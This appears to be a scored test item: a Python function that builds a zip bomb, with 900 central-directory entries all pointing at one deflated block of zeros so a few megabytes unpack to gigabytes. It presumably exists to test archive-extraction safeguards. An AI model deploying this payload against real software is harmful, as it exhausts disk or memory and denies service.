"""Its thousand files share one compressed block, and unpack to 5 GB from 5 MB.
kind: archives
points: 0
"""

import io
import struct
import zipfile


def archive(files):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("digits/data.py", bytes(4_900_000))
    data = packed.getvalue()
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    entries = b""
    for number in range(900):  # all of them point at the same block
        name = f"digits/d{number:03d}.py".encode()
        fixed = bytearray(entry[:46])
        struct.pack_into("<H", fixed, 28, len(name))
        entries += bytes(fixed) + name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 900, 900, len(entries), start, 0)
    return data[:start] + entries + end
